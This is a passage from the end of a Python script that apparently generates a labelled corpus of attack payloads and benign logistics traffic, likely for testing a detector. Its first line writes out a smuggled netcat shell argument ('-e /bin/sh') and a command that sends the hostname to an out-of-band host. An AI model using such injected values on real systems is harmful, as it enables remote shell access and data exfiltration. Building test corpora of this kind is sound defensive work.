          json.dumps({"ip": "10.20.4.17", "port": "9100 -e /bin/sh", "zpl": "^XA^FDtest^FS^XZ", "via": "nc $(cat /etc/hostname).%s 53" % OOB}))


# ---------------------------------------------------------------------------
# Main
# ---------------------------------------------------------------------------


def build(kind):
    R.seed(SEED)
    c = Corpus(kind)
    if kind == "attacks":
        for f in (attacks_sqli, attacks_xss, attacks_lfi, attacks_rfi, attacks_rce, attacks_php, attacks_java, attacks_ssrf,
                  attacks_xxe, attacks_ssti, attacks_nosqli, attacks_ldapi, attacks_crlf, attacks_protocol, attacks_scanner, attacks_generic, attacks_extra):
            f(c)
    else:
        for f in (benign_edi, benign_tracking, benign_wms, benign_customs_erp, benign_field, benign_docs_portal, dev_content):
            f(c)
    return c


def main(argv):
    if len(argv) != 2 or argv[1] not in ("attacks", "benign"):
        sys.stderr.write("usage: corpus-logistics.py attacks|benign\n")
        return 2
    build(argv[1]).dump(sys.stdout)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
